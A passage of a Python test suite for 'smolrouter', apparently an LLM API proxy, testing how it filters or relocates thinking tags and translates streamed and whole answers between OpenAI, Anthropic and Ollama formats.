    plan = {"path": path, "dialect": smolrouter.OLLAMA, "renamed": True}
    for pieces in every_split(data):
        left = filtered(pieces, format=smolrouter.LINES, **plan)
        assert texts_in(left, *place) == SHOWN_TEXT
        assert {json.loads(line)["model"] for line in left.splitlines()} == {"m"}


SAID_AGAIN = [
    # Where a stream of /v1/responses says a text again.
    ("text",),
    ("part", "text"),
    ("item", "content", 0, "text"),
    ("response", "output", 0, "content", 0, "text"),
]


@pytest.mark.parametrize("texts", [
    TAGGED, ("hm</think>", "yes"), (" <th", "e>"), ("\n<think>no</think>\n", "yes"),
    ("<think>no",), ("yes", "<think>no</think> <th"), ("a </think>", "<think>b</think>"),
], ids=repr)  # fmt: skip
@pytest.mark.parametrize("rules", [{"think": True}, {"fences": True}, {}], ids=repr)
@pytest.mark.parametrize("left_out", [None, "response.output_text.done"])
def test_what_is_said_again_is_what_was_said(texts: Any, rules: Any, left_out: Any) -> None:
    events = [event for event in response_deltas(*texts) if event["type"] != left_out]
    data = b"".join(map(encode_event, events))
    left = filtered([data], path=RESPONSES, rules=rules)
    said = texts_in(left, "delta")
    for place in SAID_AGAIN[bool(left_out) :]:
        assert texts_in(left, *place) == said
    # The last delta comes before the first summary.
    documents = [json.loads(line[5:]) for line in left.splitlines() if line]
    kinds = [document["type"].rpartition(".")[2] for document in documents]
    assert "delta" not in kinds[kinds.index("done") :]


def test_texts_of_one_item_are_filtered_apart() -> None:
    delta = {"type": "response.output_text.delta", "item_id": "m"}
    said = [(0, "<think>no"), (1, "yes"), (0, "</think>and"), (1, " too")]
    events = [{**delta, "content_index": number, "delta": text} for number, text in said]
    left = filtered(map(encode_event, events), path=RESPONSES)
    assert texts_in(left, "delta") == "yesand too"


def test_an_emptied_event_goes_unless_it_says_more() -> None:
    says_more = [
        {"choices": [{"index": 0, "delta": {"content": "<think>", "refusal": "no"}}]},
        {"choices": [{"index": 0, "delta": {"content": "</think>"}, "finish_reason": "stop"}]},
    ]
    empty = {"choices": [{"index": 0, "delta": {"content": "x", "refusal": None}}]}
    left = filtered(map(encode_event, [says_more[0], empty, says_more[1]]))
    assert left == b"".join(map(encode_event, says_more)).replace(b"<think>", b"").replace(
        b"</think>", b""
    )


CALL_PIECES = [
    {"tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": '{"a'}}]},
    {"tool_calls": [{"index": 0, "function": {"arguments": '":1}'}}]},
]
TRANSLATED: dict[str, tuple[Any, list[Any], list[dict[str, Any]]]] = {
    # what else was asked for, what an OpenAI server says, what the lines say before the end
    "words": ({}, [{"content": "Hi"}, {"content": " you"}], [{"content": "Hi"},
                                                              {"content": " you"}]),
    "role": ({}, [{"role": "assistant", "content": ""}, {"content": "Hi"}], [{"content": "Hi"}]),
    "tagged": ({}, [{"content": "<think>hm</th"}, {"content": "ink>\nHi <"}],
               [{"content": "Hi "}, {"content": "<"}]),
    "tagged, wished for": ({"think": True}, [{"content": "<think>hm</think>Hi"}],
                           [{"content": "Hi", "thinking": "hm"}]),
    "apart": ({}, [{"reasoning": "hm", "reasoning_content": "hm"}, {"content": "Hi"}],
              [{"content": "", "thinking": "hm"}, {"content": "Hi"}]),
    "apart, refused": ({"think": False}, [{"reasoning": "hm"}, {"content": "Hi"}],
                       [{"content": "Hi"}]),
    "a call": ({}, CALL_PIECES, [{"content": "", "tool_calls": [
        {"function": {"name": "f", "arguments": {"a": 1}}}]}]),
}  # fmt: skip
COUNTS = {"prompt_tokens": 3, "completion_tokens": 2}


def translated(pieces: Iterable[bytes], stream: bool, asked: Any) -> list[dict[str, Any]]:
    """The lines that an OpenAI stream becomes for a client of /api/chat."""
    request = {**asked, "stream": stream}
    plan = answer_plan("/api/chat", request, smolrouter.OLLAMA, native=False)
    rewriter = smolrouter.choose_rewriter(plan, 200, "text/event-stream")
    assert rewriter.buffers == (not stream)
    content = b"".join([rewriter.feed(piece) for piece in pieces]) + rewriter.finish()
    return [json.loads(line) for line in content.splitlines()]


def translated_document(
    document: Any, asked: Any = None, path: str = "/api/chat", dialect: Any = smolrouter.OLLAMA
) -> Any:
    """What a whole OpenAI answer becomes for an Ollama client."""
    plan = answer_plan(path, {**(asked or {}), "stream": False}, dialect, native=False)
    rewriter = smolrouter.choose_rewriter(plan, 200, "application/json")
    return json.loads(rewriter.feed(encode_json(document)) + rewriter.finish())


@pytest.mark.parametrize("asked, said, lines", TRANSLATED.values(), ids=TRANSLATED)
def test_stream_becomes_lines(asked: Any, said: list[Any], lines: list[Any]) -> None:
    chunks = [chat_chunk({}, delta) for delta in said] + [chat_chunk({}, {}, "stop")]
    events = [*chunks, {"choices": [], "usage": COUNTS}, "[DONE]"]
    data = b"".join(map(encode_event, events))
    end = {
        "done": True, "done_reason": "stop", "total_duration": 5, "load_duration": 0,
        "prompt_eval_count": 3, "prompt_eval_duration": 2, "eval_count": 2, "eval_duration": 3,
    }  # fmt: skip
    start = {"model": "m", "created_at": "1970-01-01T00:00:00.500Z"}
    spoken = [{**start, "message": {"role": "assistant", **line}, "done": False} for line in lines]
    last = {**start, "message": {"role": "assistant", "content": ""}, **end}
    for pieces in every_split(data):
        assert translated(pieces, True, asked) == [*spoken, last]
    (whole,) = translated([data], False, asked)
    assert whole["message"]["content"] == "".join(line["content"] for line in lines)
    assert {**whole, "message": last["message"]} == last


def test_what_a_stream_says_again_is_no_more_text() -> None:
    data = b"".join(map(encode_event, [*cumulative_deltas("Hi", " you"), "[DONE]"]))
    for stream in (False, True):
        lines = translated([data], stream, {})
        assert "".join(line["message"]["content"] for line in lines) == "Hi you"


@pytest.mark.parametrize("asked, said, lines", TRANSLATED.values(), ids=TRANSLATED)
def test_whole_answer_is_translated_as_its_stream_is(asked: Any, said: Any, lines: Any) -> None:
    events = [*(chat_chunk({}, delta) for delta in said), chat_chunk({}, {}, "stop")]
    (streamed,) = translated(map(encode_event, [*events, {"usage": COUNTS}]), False, asked)
    message: dict[str, Any] = {"content": ""}
    for delta in said:
        for name in ("content", "reasoning"):
            message[name] = message.get(name, "") + delta.get(name, "")
    if said is CALL_PIECES:
        function = {"name": "f", "arguments": '{"a":1}'}
        message["tool_calls"] = [{"id": "c", "function": function}]
    document = {"choices": [{"message": message, "finish_reason": "stop"}], "usage": COUNTS}
    assert translated_document(document, asked) == streamed


def test_an_error_ends_the_lines_or_is_raised() -> None:
    error = {"error": {"message": "no memory"}}
    events = [*map(encode_event, text_deltas("Hi")), encode_event(error), encode_event("[DONE]")]
    lines = translated(events, True, {})
    assert [line.get("message", {}).get("content") for line in lines] == ["Hi", None]
    assert lines[-1] == {"error": "no memory"}
    with pytest.raises(smolrouter.BadGateway, match="no memory"):
        translated(events, False, {})
    for stream in (False, True):
        with pytest.raises(smolrouter.BadGateway, match="before the answer was complete"):
            translated(events[:1], stream, {})
        with pytest.raises(smolrouter.BadGateway, match="ended inside an event"):
            translated([events[0][:-9]], stream, {})


def test_a_document_is_kept_until_it_can_be_changed() -> None:
    content = encode_json(completion({}, "<think>no</think>yes"))
    plan = answer_plan(request={"stream": False})
    rewriter = smolrouter.choose_rewriter(plan, 200, "application/json")
    assert rewriter.buffers and rewriter.feed(content[:9]) == rewriter.feed(content[9:]) == b""
    assert rewriter.finish() == content.replace(b"<think>no</think>", b"")
    rewriter = smolrouter.choose_rewriter(plan, 200, "application/json")
    rewriter.feed(content[:-1])
    with pytest.raises(smolrouter.BadGateway, match="closed inside the answer"):
        rewriter.finish(closed=True)


def test_a_document_that_is_too_long_goes_as_it_is() -> None:
    plan = answer_plan(request={"stream": False}, buffered_answer=20)
    rewriter = smolrouter.choose_rewriter(plan, 200, "application/json")
    assert [rewriter.feed(b"x" * 15), rewriter.feed(b"y" * 15)] == [b"", b"x" * 15 + b"y" * 15]
    assert not rewriter.buffers and (rewriter.feed(b"z"), rewriter.finish()) == (b"z", b"")
    plan = plan._replace(dialect=smolrouter.OLLAMA, native=False)
    rewriter = smolrouter.choose_rewriter(plan, 200, "application/json")
    with pytest.raises(smolrouter.BadGateway, match="longer than 20 bytes"):
        rewriter.feed(b"x" * 21)


def test_what_goes_through_no_rewriter() -> None:
    chat = answer_plan()
    assert smolrouter.choose_rewriter(chat, 400, "application/json") is None
    assert smolrouter.choose_rewriter(chat, 200, "image/png") is None
    unfiltered = chat._replace(rules=smolrouter.FilterRules())
    assert smolrouter.choose_rewriter(unfiltered, 200, "application/json") is None
    opaque = chat._replace(parsed=smolrouter.ParsedRequest(CHAT, "", b"form"))
    assert smolrouter.choose_rewriter(opaque, 200, "text/event-stream") is None


# --- answers on their way -------------------------------------------------------------


def filtered(pieces: Iterable[bytes], **plan: Any) -> bytes:
    """Return what is left of a stream when its filter has had these pieces."""
    rewriter = stream_filter(**plan)
    return b"".join([rewriter.feed(piece) for piece in pieces]) + rewriter.finish()


@pytest.mark.parametrize("end", (b"\r\n", b"\r"))
def test_line_ends_change_nothing_of_what_is_filtered(end: bytes) -> None:
    said = chat_stream("Hi", " there", "<think>", "no", "</think>", "a<b", "c", " <thi", "s", " x")
    usage = encode_event({"choices": [], "usage": {"prompt_tokens": 1}})
    data = b"".join([*said[:-1], b": note\n\n", usage, said[-1]])
    right = filtered([data]).replace(b"\n", end)
    assert b"think" not in right and b'"usage"' not in right and right.count(b": note") == 1
    assert {filtered(p) for p in every_split(data.replace(b"\n", end))} == {right}
    assert {filtered(p) for p in every_split(data)} == {right.replace(end, b"\n")}


@pytest.mark.parametrize("end", EVENT_ENDS)
def test_the_end_of_a_long_event_at_every_split(end: bytes) -> None:
    long = encode_event("<think>" + "x" * 200)
    said = chat_stream("<think>no</think>", "yes")
    data = b"".join([long, *said]).replace(b"\n\n", end)
    for at in range(110, len(long) + 12):
        for size in (1, 2, 3, len(data)):
            pieces = [data[:at], *(data[i : i + size] for i in range(at, len(data), size))]
            got = filtered(pieces, buffered_event=100)
            assert got.startswith(long[:-2] + end) and b"no" not in got and b"yes" in got


def test_texts_without_number() -> None:
    events = [encode_event(text_deltas(f"{n}<", index=n)[0]) for n in range(51)]
    ended = [{"index": n, "delta": {"content": "b"}, "finish_reason": "stop"} for n in (3, 3, 4)]
    rewriter = stream_filter(texts_per_stream=50)
    changes = rewriter.changes
    shown = b"".join(map(rewriter.feed, events[:50]))
    assert b"<" not in shown and len(changes.pending) == len(changes.needs_all_events) == 50
    assert rewriter.feed(encode_event({"choices": ended})).count(b"<b") == 2
    assert len(changes.pending) == len(changes.needs_all_events) == 48
    assert rewriter.feed(encode_event("[DONE]")).count(b'"<"') == 48
    assert not changes.pending and not changes.needs_all_events and changes.skips_plain_events
    rewriter.feed(encode_event(text_deltas("<think>a", index=7)[0]))
    assert changes.needs_all_events == {(7, None)} and not changes.pending
    with pytest.raises(smolrouter.BadGateway, match="more than 50 texts"):
        rewriter.feed(events[50])


# --- thinking that is moved, or was told apart ----------------------------------------

MOVED = "<think>hm</think>\n\nYes, `<think>`"
MOVED_TEXT = "Yes, `<think>`"
MOVE = {"think": True, "move": True}
MOVED_STREAMS: dict[str, tuple[str, Callable[..., list[Any]], Any, tuple[str | int, ...],
                               tuple[str | int, ...]]] = {
    # path, what makes its events, their format, where texts stand, where thinking does
    "chat": (CHAT, text_deltas, None, ("choices", 0, "delta", "content"),
             ("choices", 0, "delta", "reasoning_content")),
    "completions": (
        "/v1/completions", lambda *t: [{"choices": [{"index": 0, "text": x}]} for x in t], None,
        ("choices", 0, "text"), ("choices", 0, "reasoning_content")),
    "responses": (RESPONSES, response_deltas, None,
                  ("response", "output", 1, "content", 0, "text"),
                  ("response", "output", 0, "content", 0, "text")),
    "api/chat": ("/api/chat", lambda *t: [{"message": {"content": x}, "done": False} for x in t],
                 smolrouter.LINES, ("message", "content"), ("message", "thinking")),
    "api/generate": ("/api/generate", lambda *t: [{"response": x, "done": False} for x in t],
                     smolrouter.LINES, ("response",), ("thinking",)),
}  # fmt: skip


@pytest.mark.parametrize("case", MOVED_STREAMS.values(), ids=MOVED_STREAMS)
def test_thinking_moves_at_every_split(case: Any) -> None:
    path, make, format, text_place, thought_place = case
    plan: dict[str, Any] = {"path": path, "format": format, "rules": MOVE}
    if format:
        plan["dialect"] = smolrouter.OLLAMA
    for pieces in every_split(MOVED):
        events = make(*pieces)
        encode = encode_event if format is None else lambda e: encode_json(e) + b"\n"
        left = filtered([b"".join(map(encode, events))], **plan)
        assert texts_in(left, *text_place) == MOVED_TEXT
        assert texts_in(left, *thought_place) == "hm"
        if path == RESPONSES:
            said = [json.loads(line[5:]) for line in left.splitlines() if line.startswith(b"data")]
            deltas: dict[str, str] = {}
            for event in said:
                kind = event["type"]
                deltas[kind] = deltas.get(kind, "") + str(event.get("delta"))
            assert deltas["response.output_text.delta"] == MOVED_TEXT
            assert deltas["response.reasoning_text.delta"] == "hm"


def read_blocks(content: bytes) -> list[tuple[str, str]]:
    """Return the blocks that events of /v1/messages make; each must be open when it goes on."""
    blocks: list[tuple[str, str]] = []
    is_open = False
    for line in content.splitlines():
        event = json.loads(line[5:]) if line.startswith(b"data:") else {}
        kind = event.get("type", "")
        if kind == "content_block_start":
            assert (event["index"], is_open) == (len(blocks), False)
            blocks.append((event["content_block"]["type"], ""))
        elif kind == "content_block_delta":
            assert (event["index"], is_open) == (len(blocks) - 1, True)
            name, said = blocks[-1]
            more = [value for key, value in event["delta"].items() if key != "type"]
            assert event["delta"]["type"] == {"thinking": "thinking_delta"}.get(name, "text_delta")
            blocks[-1] = (name, said + more[0])
        elif kind == "content_block_stop":
            assert event["index"] == len(blocks) - 1
        is_open = is_open if "block" not in kind else kind != "content_block_stop"
    assert not is_open
    return blocks


@pytest.mark.parametrize("said, blocks", [
    (MOVED, [("thinking", "hm"), ("text", MOVED_TEXT)]),
    ("Yes", [("text", "Yes")]), ("", [("text", "")]), ("<think>hm", [("thinking", "hm")]),
    ("[", [("text", "[")]),
])  # fmt: skip
def test_thinking_moves_into_blocks_of_its_own(said: str, blocks: Any) -> None:
    for pieces in every_split(said) if said else [[""]]:
        data = b"".join(map(encode_event, block_deltas(*pieces)))
        assert read_blocks(filtered([data], path=ANTHROPIC, rules=MOVE)) == blocks * 2
    several = "<think>a</think>b<think>c</think>d"
    data = b"".join(map(encode_event, block_deltas(*several)))
    found = read_blocks(filtered([data], path=ANTHROPIC, rules=MOVE))
    assert found == [("thinking", "a"), ("text", "b"), ("thinking", "c"), ("text", "d")] * 2
    left = filtered([data], path=ANTHROPIC)
    assert read_blocks(left) == [("text", "bd")] * 2


def test_thinking_moves_in_whole_answers() -> None:
    block = {"type": "text", "text": MOVED}
    tool = {"type": "tool_use", "input": {"a": "<think>"}}
    item = {"type": "message", "content": [{"type": "output_text", "text": MOVED}]}
    moved_item = {"type": "message", "content": [{"type": "output_text", "text": MOVED_TEXT}]}
    parts = [{"type": "reasoning_text", "text": "hm"}]
    reasoning = {"type": "reasoning", "id": "rs_thought", "summary": [], "content": parts}
    more = {"logprobs": [1.0, {"a": "<think>"}]}
    for path, said, wanted in (
        (CHAT, {"choices": [{"message": {"content": MOVED}, **more}]},
         {"choices": [{"message": {"content": MOVED_TEXT, "reasoning_content": "hm"}, **more}]}),
        ("/v1/completions", {"choices": [{"text": MOVED, **more}]},
         {"choices": [{"text": MOVED_TEXT, "reasoning_content": "hm", **more}]}),
        (ANTHROPIC, {"type": "message", "content": [block, tool]},
         {"type": "message", "content": [{"type": "thinking", "thinking": "hm", "signature": ""},
                                         {**block, "text": MOVED_TEXT}, tool]}),
        (RESPONSES, {"output": [item], "output_text": MOVED},
         {"output": [reasoning, moved_item], "output_text": MOVED_TEXT}),
        ("/api/chat", {"message": {"content": MOVED}},
         {"message": {"content": MOVED_TEXT, "thinking": "hm"}}),
        ("/api/generate", {"response": MOVED}, {"response": MOVED_TEXT, "thinking": "hm"}),
    ):  # fmt: skip
        dialect = smolrouter.OLLAMA if path.startswith("/api") else None
        plan = answer_plan(path, {"stream": False}, dialect, rules=MOVE)
        assert json.loads(smolrouter.filter_document(plan, encode_json(said))) == wanted
    for rules in (MOVE, {"think": True}):
        for asked, said in (({}, [{"content": MOVED}]), ({"think": False}, [{"content": MOVED}])):
            plan = answer_plan("/api/chat", asked, smolrouter.OLLAMA, native=False, rules=rules)
            rewriter = smolrouter.choose_rewriter(plan, 200, "text/event-stream")
            events = [*(chat_chunk({}, delta) for delta in said), finish_delta(), "[DONE]"]
            content = b"".join(rewriter.feed(encode_event(e)) for e in events) + rewriter.finish()
            shown = rules is MOVE and not asked
            assert texts_in(content, "message", "thinking") == ("hm" if shown else "")
            assert texts_in(content, "message", "content") == MOVED_TEXT


def test_reasoning_has_one_name_when_thinking_moves() -> None:
    deltas = [{"role": "assistant", "reasoning": "h"}, {"reasoning": "m", "content": ""},
              {"reasoning": "!", "reasoning_content": None}, {"content": "the <think> tag"},
              {"reasoning": "a", "reasoning_content": "a"}, {"reasoning": "more"}]  # fmt: skip
    data = b"".join(map(encode_event, [*(chat_chunk({}, d) for d in deltas), "[DONE]"]))
    place = ("choices", 0, "delta", "reasoning_content")
    for pieces in every_split(data):
        left = filtered(pieces, rules=MOVE)
        assert texts_in(left, *place) == "hm!amore"
        assert texts_in(left, "choices", 0, "delta", "content") == "the <think> tag"
        assert left.count(b'"reasoning"') == 1
    assert filtered([data]) == data
    message = {"reasoning": "hm", "content": "the <think> tag"}
    content = encode_json({"choices": [{"message": message}]})
    moved = content.replace(b'"reasoning"', b'"reasoning_content"')
    assert smolrouter.filter_document(answer_plan(rules=MOVE), content) == moved
    assert smolrouter.filter_document(answer_plan(), content) == content


SEPARATED: dict[str, tuple[str, list[Any]]] = {
    "chat": (CHAT, [*text_deltas("hm", key="reasoning_content"), *text_deltas("a <think>b\n", "c"),
                    "[DONE]"]),
    "reasoning": (CHAT, [*text_deltas("hm", key="reasoning"), *text_deltas("<think>", "c")]),
    "messages": (ANTHROPIC, [
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking",
                                                                      "thinking": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"thinking": "hm"}},
        {"type": "content_block_stop", "index": 0},
        {"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 1, "delta": {"text": "<think>a"}},
        {"type": "content_block_stop", "index": 1}, {"type": "message_stop"}]),
    "responses": (RESPONSES, [
        {"type": "response.reasoning_text.delta", "item_id": "r", "delta": "hm"},
        *response_deltas("<think>", "a")]),
}  # fmt: skip


@pytest.mark.parametrize("path, events", SEPARATED.values(), ids=SEPARATED)
@pytest.mark.parametrize("rules", [{"think": True}, {"think": True, "opened": True}], ids=repr)
def test_what_a_server_tells_apart_is_not_touched(path: str, events: Any, rules: Any) -> None:
    data = b"".join(map(encode_event, events))
    for pieces in every_split(data):
        assert filtered(pieces, path=path, rules=rules) == data


def test_what_a_server_tells_apart_is_not_touched_in_whole_answers() -> None:
    said = "<think>kept</think>"
    for path, document in (
        (CHAT, {"choices": [{"message": {"content": said, "reasoning_content": "hm"}}]}),
        (CHAT, {"choices": [{"message": {"content": said, "reasoning": "hm"}}]}),
        (ANTHROPIC, {"type": "message", "content": [{"type": "thinking", "thinking": "hm"},
                                                    {"type": "text", "text": said}]}),
        (RESPONSES, {"output": [{"type": "reasoning", "content": [{"text": "hm"}]},
                                {"type": "message", "content": [{"text": said}]}]}),
        ("/api/chat", {"message": {"content": said, "thinking": "hm"}}),
        ("/api/generate", {"response": said, "thinking": "hm"}),
    ):  # fmt: skip
        dialect = smolrouter.OLLAMA if path.startswith("/api") else None
        content = encode_json(document)
        plan = answer_plan(path, {"stream": False}, dialect)
        assert smolrouter.filter_document(plan, content) == content
    two = [{"index": 0, "message": {"content": said, "reasoning_content": "hm"}},
           {"index": 1, "message": {"content": said + "x", "reasoning_content": ""}}]  # fmt: skip
    left = smolrouter.filter_document(answer_plan(), encode_json({"choices": two}))
    texts = [choice["message"]["content"] for choice in json.loads(left)["choices"]]
    assert texts == [said, "x"]
    message = {"content": said, "reasoning_content": "hm"}
    told = translated_document({"choices": [{"message": message}]})["message"]
    assert (told["content"], told["thinking"]) == (said, "hm")


def test_plain_events_leave_unseen_behind_code_too() -> None:
    rewriter = stream_filter()
    said = chat_stream("Hi there", " `a", "` ~b", "\n```py", "\n", "<think>\n", "```\n", "and on")
    for event in said[:-2]:
        assert rewriter.feed(event) == event
    changes = rewriter.changes
    assert changes.skips_plain_events and not changes.needs_all_events
    plain = encode_event(text_deltas("x")[0])
    block = plain * 99
    assert rewriter.feed(block) is block
    # The fence behind it is one because a line has ended before, in an event that was not parsed.
    more = chat_stream("one\n", "```", "\n", "<think>", "\n```\n", "<think>no</think>end")[1:]
    left = rewriter.feed(plain + b"".join(more))
    assert texts_in(left, "choices", 0, "delta", "content").endswith("\n```\n<think>\n```\nend")
    inline = b"".join(chat_stream("Hi there", " you", " ```", " <think>no</think>end\n"))
    left = filtered([inline])
    assert texts_in(left, "choices", 0, "delta", "content") == "Hi there you ``` end\n"


def test_pieces_of_the_rest_are_told_where_they_belong() -> None:
    """What is kept back at the end of a text leaves as text or as thinking, in any choice."""
    for tail, name in (("a <thi", "content"), ("<think>a</thi", "reasoning_content")):
        said = [*text_deltas(tail, index=1), "[DONE]"]
        left = filtered(map(encode_event, said), rules=MOVE)
        assert texts_in(left, "choices", 0, "delta", name) == tail.removeprefix("<think>")
        assert left.count(b'"index":1') == 2


class Counted(bytes):
    """Bytes that count how many of them `find`, `rfind` and `in` have looked at."""

    looked = 0

    def __contains__(self, word: Any) -> bool:
        return self.find(word) >= 0

    def find(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
        stop = len(self) if stop is None else stop
        at = super().find(word, start, stop)
        self.looked += (at if at >= 0 else stop) - start
        return at

    def rfind(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
        stop = len(self) if stop is None else stop
        at = super().rfind(word, start, stop)
        self.looked += stop - (at if at >= 0 else start)
        return at


@pytest.mark.parametrize("end", EVENT_ENDS)
@pytest.mark.parametrize("text", ("x", " <b>"))
@pytest.mark.parametrize("key", ("content", "reasoning"))
def test_no_octet_is_looked_at_often(end: bytes, text: str, key: str) -> None:
    events = [encode_event(doc) for doc in text_deltas("Hi", *["word"] * 19, text, key=key)] * 20
    block = Counted(b"".join(events).replace(b"\n\n", end))
    assert stream_filter().changes.change_block(block) == block
    assert 0 < block.looked < 12 * len(block)


def test_held_text_leaves_with_its_event_s_own_lines() -> None:
    delta = {"type": "content_block_delta", "index": 0, "delta": {"text": "a <"}}
    stop = {"type": "content_block_stop", "index": 0}
    pieces = [
        b"event: content_block_delta\n" + encode_event(delta),
        b"event: x\n" + encode_event(stop),
    ]
    content = {
        "model": default_upstream().add_script(stream_response(pieces)),
        "messages": [],
        "stream": True,
    }
    got = request(default_router().port, "POST", "/v1/messages", content)
    assert got.content.count(b"event: content_block_delta\n") == 2
    assert b'"text":"<"' in got.content


@fuzz(
    lambda st: {
        "docs": st.lists(
            json_values(st)
            | st.fixed_dictionaries(
                {},
                optional={
                    "choices": json_values(st)
                    | st.lists(
                        st.fixed_dictionaries(
                            {},
                            optional={
                                "delta": json_values(st)
                                | st.fixed_dictionaries(
                                    {},
                                    optional={
                                        "content": json_values(st) | st.sampled_from(TEXT_BITS),
                                        "tool_calls": json_values(st),
                                        "reasoning_content": json_values(st),
                                    },
                                ),
                                "index": json_values(st),
                                "text": json_values(st),
                                "finish_reason": json_values(st),
                            },
                        ),
                        max_size=2,
                    ),
                    "usage": json_values(st),
                    "timings": json_values(st),
                    "error": json_values(st),
                },
            ),
            max_size=4,
        ),
        "ollama": st.booleans(),
        "stream": st.booleans(),
    }
)
def test_fuzz_answers(docs: list, ollama: bool, stream: bool) -> None:
    """An answer of any shape is relayed or is a BadGateway, never a fault of ours."""
    dialect = smolrouter.OLLAMA if ollama else smolrouter.OPENAI
    path = "/api/chat" if ollama else CHAT
    asked = {"messages": [{"role": "user", "content": "x"}], "stream": stream}
    rules = {"think": True, "fences": True}
    plan = answer_plan(path, asked, dialect, not ollama, rules, renamed=True)
    kind = "text/event-stream" if stream else "application/json"
    rewriter = smolrouter.choose_rewriter(plan, 200, kind)
    with contextlib.suppress(smolrouter.BadGateway):
        for doc in docs or [{}]:
            data = json.dumps(doc).encode()
            rewriter.feed(b"data: " + data + b"\n\n" if stream else data)
        rewriter.finish()


ODD_DOCUMENTS = [
    {"choices": [{"index": [0], "message": {"content": "<b>"}}]},
    {"choices": "x", "usage": [1]},
    {"choices": [{"message": "hi"}]},
    {"choices": [{"message": {"content": "a", "tool_calls": [None]}}]},
    {"choices": [{"message": {"tool_calls": [{"function": None}]}}]},
    {"data": [None]},
]


@pytest.mark.parametrize("doc", ODD_DOCUMENTS, ids=range(len(ODD_DOCUMENTS)))
@pytest.mark.parametrize("path", [CHAT, "/api/chat", "/api/embed"])
def test_odd_document_is_no_internal_error(path: str, doc: Any) -> None:
    model = default_upstream().add_script(json_response(doc))
    asked = (
        {"model": model, "input": "a"} if "embed" in path else example_request(path, model, False)
    )
    got = request(default_router().port, "POST", path, asked)
    assert got.status in (200, 502)
    assert got.status == 200 or isinstance(got.json["error"], dict if path == CHAT else str)


LONG_ANSWERS: dict[str, tuple[str, Any, Any]] = {
    "vectors": ("/api/embed", {"data": [{"embedding": [0.123456789] * 1000}] * 500}, {}),
    "translated": ("/api/chat", completion({}, "word <b> " * 700_000), {"stream": False}),
    "filtered": (CHAT, completion({}, "<think>no</think>" + "word <b> " * 700_000), {}),
}


def longest_wait(router: Router, work: Callable[[], None]) -> float:
    """Return how long somebody else waits for the router at most, as a share of some work."""
    done = threading.Event()
    waits = []

    def ask_often() -> None:
        while not done.is_set():
            begun = time.monotonic()
            request(router.port, "GET", "/healthz")
            waits.append(time.monotonic() - begun)

    asking = threading.Thread(target=ask_often)
    asking.start()
    begun = time.monotonic()
    work()
    took = time.monotonic() - begun
    done.set()
    asking.join()
    return max(waits) / took


@pytest.mark.parametrize("path, document, more", LONG_ANSWERS.values(), ids=LONG_ANSWERS)
def test_a_long_answer_is_changed_beside_the_others(path: str, document: Any, more: Any) -> None:
    """Nobody waits for all of that work; who did waited for nine tenths of it and more."""
    content = encode_json(document)
    assert len(content) > 5 * smolrouter.LIMITS.long_content
    steps = whole_response(content, kind="application/json")
    asked = {"model": "m", "input": "x", "messages": [{"role": "user", "content": "x"}], **more}

    def work() -> None:
        got = request(router.port, "POST", path, asked)
        assert got.status == 200 and b"think" not in got.content

    with (
        Upstream(lambda received: steps) as upstream,
        Router({"DEFAULT_UPSTREAM": upstream.url}) as router,
    ):
        assert wait_until(lambda: longest_wait(router, work) < 0.5)


def test_cut_document_is_no_answer() -> None:
    content = encode_json(completion({}, "<think>a</think>x"))[:-5]
    kind = [("Content-Type", "application/json"), ("Connection", "close")]
    model = default_upstream().add_script([response_head(200, kind) + content, CLOSE])
    assert post_chat(default_router(), model).status == 502


# --- OpenAI: the official client ------------------------------------------------------


@each_way
@each_openai
def test_openai_chat(sdk: Sdk, way: str) -> None:
    model = f"{way}-talk"
    got = sdk.call(
        sdk_router().url, "chat.completions.create", model=model, messages=HELLO_MESSAGES
    )
    assert got.choices[0].message.content == HELLO_ANSWER
    assert got.choices[0].finish_reason == "stop"
    assert got.usage.model_dump(exclude_none=True) == usage_of(HELLO_ANSWER)
    heard = last_request()
    assert heard.json == {"model": "talk", "messages": HELLO_MESSAGES}
    assert heard.get("Authorization") == f"Bearer {CLIENT_KEY}"
    assert heard.get("OpenAI-Organization") == "homelab"
    assert "OpenAI" in (heard.get("User-Agent") or "")


@each_way
@each_openai
@pytest.mark.parametrize("wanted", (False, True), ids=("no-usage", "usage"))
def test_openai_streamed_chat(sdk: Sdk, way: str, wanted: bool) -> None:
    asked: Any = {"stream_options": {"include_usage": True}} if wanted else {}
    parts = sdk.call(
        sdk_router().url,
        "chat.completions.create",
        model=f"{way}-talk",
        messages=HELLO_MESSAGES,
        stream=True,
        **asked,
    )
    choices = [p.choices[0] for p in parts if p.choices]
    assert "".join(c.delta.content or "" for c in choices) == HELLO_ANSWER
    assert [c.finish_reason for c in choices][-1] == "stop"
    assert last_request().json["stream_options"] == {"include_usage": True}
    usages = [p.usage.model_dump(exclude_none=True) for p in parts if p.usage]
    assert usages == ([usage_of(HELLO_ANSWER)] if wanted else [])
    assert len(parts) == len(choices) + wanted


@each_way
@each_openai
@whole_or_streamed
def test_openai_legacy_completions(sdk: Sdk, way: str, stream: bool) -> None:
    got = sdk.call(
        sdk_router().url,
        "completions.create",
        model=f"{way}-talk",
        prompt="hello",
        stream=stream,
        suffix="!",
        logit_bias={"50256": -100},
    )
    parts = got if stream else [got]
    assert "".join(c.text for p in parts for c in p.choices) == HELLO_ANSWER
    heard = last_request()
    assert heard.path == "/v1/completions"
    expected = {
        "model": "talk",
        "prompt": "hello",
        "suffix": "!",
        "stream": stream,
        "logit_bias": {"50256": -100},
    }
    assert {k: v for k, v in heard.json.items() if k != "stream_options"} == expected


@each_way
@each_openai
@pytest.mark.parametrize("form", (None, "float", "base64"))
def test_openai_embeddings(sdk: Sdk, way: str, form: str | None) -> None:
    asked: Any = {"encoding_format": form} if form else {}
    got = sdk.call(
        sdk_router().url,
        "embeddings.create",
        model=f"{way}-vectors",
        input=["a", "b"],
        dimensions=3,
        **asked,
    )
    packed = base64.b64encode(struct.pack("<3f", *VECTOR)).decode()
    expected = packed if form == "base64" else VECTOR
    assert [d.embedding for d in got.data] == [expected, expected]
    heard = last_request().json
    assert (heard["model"], heard["input"], heard["dimensions"]) == ("vectors", ["a", "b"], 3)


@each_way
@each_openai
def test_openai_tool_calls(sdk: Sdk, way: str) -> None:
    got = sdk.call(
        sdk_router().url,
        "chat.completions.create",
        model=f"{way}-tools",
        messages=HELLO_MESSAGES,
        tools=TOOLS,
